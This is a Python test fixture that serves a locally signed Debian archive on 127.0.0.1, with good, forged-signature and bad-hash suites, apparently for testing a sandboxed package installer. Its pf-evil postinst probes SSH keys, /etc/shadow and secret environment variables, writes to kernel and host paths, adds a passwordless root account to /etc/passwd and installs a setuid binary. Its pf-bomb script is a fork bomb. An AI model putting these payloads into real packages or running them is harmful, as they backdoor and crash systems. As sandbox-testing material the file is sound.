# SPDX-License-Identifier: Apache-2.0
"""An archive of Debian packages for tests, signed with a key that is made here, on 127.0.0.1.

	python3 archive.py FILE		writes "PORT" to FILE when it listens, and serves until it is ended

It enters a mount namespace of its own, in which apt knows this archive and no other. What it answers is
written to FILE.log. Suites: `good`; `forged`, whose signature is another key's; `changed`, whose list has a
wrong hash.
"""
import ctypes
import hashlib
import http.server
import os
import shutil
import subprocess
import sys
import tempfile

TOP = sys.argv[1] + ".archive"
CLONE_NEWNS = 0x20000

TOOL = "#!/bin/sh\necho tool $(cat /usr/share/pf-lib/text) $(cat /etc/pf-tool/conf) $(cat /var/lib/pf-tool/state)\n"
POSTINST = """#!/bin/sh
set -e
update-alternatives --install /usr/bin/pf-alt pf-alt /usr/bin/pf-tool 10
mkdir -p /var/lib/pf-tool
echo state >/var/lib/pf-tool/state
chown games:games /var/lib/pf-tool/state
"""
# What it gets hold of is in the package afterwards, for the test to look at.
EVIL = """#!/usr/bin/python3
import os, socket
seen = [p for p in ('/root/.ssh', '/etc/shadow', '/work', '/host/etc/apt', '/host/lists/lock') if os.path.exists(p)]
seen += [k for k in os.environ if 'SECRET' in k]
for host, port in (('192.0.2.1', 80), ('127.0.0.1', PORT)):
    try:
        socket.create_connection((host, port), 2).close()
        seen.append(f'network {host}')
    except OSError:
        pass
for path in ('/host/dpkg/evil', '/host/etc/alternatives/evil', '/proc/sys/kernel/hostname', '/proc/sysrq-trigger'):
    try:
        open(path, 'w').write('x')
        seen.append(f'wrote {path}')
    except OSError:
        pass
for n in (0, 1):
    try:
        os.setuid(0)
        os.mknod('/tmp/device', 0o60666, os.makedev(7, n))
        seen.append('device')
    except OSError:
        pass
open('/etc/passwd', 'a').write('evil::0:0::/:/bin/sh\\n')
open('/usr/bin/pf-evil', 'w').write('#!/bin/sh\\necho seen: ' + ' '.join(seen) + '\\n')
os.chmod('/usr/bin/pf-evil', 0o6755)
"""
BOMB = "#!/bin/sh\nbomb() { bomb | bomb & }\nbomb\nwhile :; do :; done\n"


def deb(name, version, files, depends="", postinst=None):
    at = os.path.join(TOP, "made", name)
    for path, text in {"DEBIAN/control": f"Package: {name}\nVersion: {version}\nArchitecture: all\nMaintainer: nobody\n"
                       f"Depends: {depends}\nDescription: for tests\n".replace("Depends: \n", ""), **files,
                       **({"DEBIAN/postinst": postinst} if postinst else {})}.items():
        whole = os.path.join(at, path)
        os.makedirs(os.path.dirname(whole), exist_ok=True)
        with open(whole, "w", encoding="utf-8") as f:
            f.write(text)
        os.chmod(whole, 0o755 if "bin/" in path or path.endswith("postinst") else 0o644)
    if any(p.startswith("etc/") for p in files):
        with open(os.path.join(at, "DEBIAN/conffiles"), "w", encoding="utf-8") as f:
            f.writelines(f"/{p}\n" for p in files if p.startswith("etc/"))
    made = f"pool/{name}_{version}_all.deb"
    subprocess.run(["dpkg-deb", "-Znone", "--root-owner-group", "-b", at, os.path.join(TOP, made)], check=True,
                   stdout=subprocess.DEVNULL)
    with open(os.path.join(TOP, made), "rb") as f:
        data = f.read()
    with open(os.path.join(at, "DEBIAN/control"), encoding="utf-8") as f:
        return f"{f.read()}Filename: {made}\nSize: {len(data)}\nSHA256: {hashlib.sha256(data).hexdigest()}\n\n"


def gpg(home, *words):
    return subprocess.run(["gpg", "--homedir", home, "--batch", "--quiet", "--pinentry-mode", "loopback", "--passphrase", "",
                           *words], check=True, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE).stdout


def suite(name, packages, home, key):
    at = os.path.join(TOP, "dists", name)
    os.makedirs(at + "/main/binary-all")
    text = "".join(packages).encode()
    with open(at + "/main/binary-all/Packages", "wb") as f:
        f.write(text)
    release = f"Origin: test\nSuite: {name}\nCodename: {name}\nArchitectures: all\nComponents: main\n" \
        f"Date: Thu, 02 Jan 2020 03:04:05 UTC\nSHA256:\n {hashlib.sha256(text).hexdigest()} {len(text)} " \
        "main/binary-all/Packages\n"
    with open(at + "/Release", "w", encoding="utf-8") as f:
        f.write(release)
    gpg(home, "-u", key, "--clearsign", "-o", at + "/InRelease", at + "/Release")


def fill(port):
    os.makedirs(TOP + "/pool")
    good = [deb("pf-lib", "1:1.5~beta", {"usr/share/pf-lib/text": "text"}),
            deb("pf-tool", "1.0", {"usr/bin/pf-tool": TOOL, "etc/pf-tool/conf": "conf"}, "pf-lib", POSTINST),
            deb("pf-evil", "1.0", {"usr/share/pf-evil": "x"}, "", EVIL.replace("PORT", str(port))),
            deb("pf-bomb", "1.0", {"usr/share/pf-bomb": "x"}, "", BOMB),
            deb("pf-fails", "1.0", {"usr/share/pf-fails": "x"}, "", "#!/bin/sh\necho went wrong >&2\nexit 3\n")]
    home = tempfile.mkdtemp(prefix="pf-") # a short name, for the agent's socket
    try:
        for key in ("ours@test", "other@test"):
            gpg(home, "--quick-gen-key", key, "ed25519", "sign", "never")
        suite("good", good, home, "ours@test")
        suite("forged", good, home, "other@test")
        suite("changed", [good[0].replace("SHA256: ", "SHA256: 0000")[:-5] + "\n\n"], home, "ours@test")
        return gpg(home, "--export", "ours@test")
    finally:
        subprocess.run(["gpgconf", "--homedir", home, "--kill", "all"], check=False)
        shutil.rmtree(home)


def enter(port, key):
    """Where apt knows nothing but us."""
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(CLONE_NEWNS) != 0:
        raise OSError(ctypes.get_errno(), "unshare")
    subprocess.run(["mount", "--make-rprivate", "/"], check=True)
    for place in ("/etc/apt", "/var/lib/apt/lists"):
        subprocess.run(["mount", "-t", "tmpfs", "-o", "mode=0755", "none", place], check=True)
    os.makedirs("/etc/apt/sources.list.d")
    with open("/etc/apt/key.gpg", "wb") as f:
        f.write(key)
    with open("/etc/apt/sources.list", "w", encoding="utf-8") as f:
        f.write(f"deb [signed-by=/etc/apt/key.gpg] http://127.0.0.1:{port} good main\n")


class Archive(http.server.SimpleHTTPRequestHandler):
    def __init__(self, *words):
        super().__init__(*words, directory=TOP)

    def log_message(self, *words):
        with open(sys.argv[1] + ".log", "a", encoding="utf-8") as f:
            f.write(f"{self.command} {self.path}\n")


def main():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Archive)
    server.daemon_threads = True
    port = server.server_address[1]
    enter(port, fill(port))
    with open(sys.argv[1] + ".new", "w", encoding="utf-8") as f:
        f.write(str(port))
    os.rename(sys.argv[1] + ".new", sys.argv[1])
    server.serve_forever()


main()
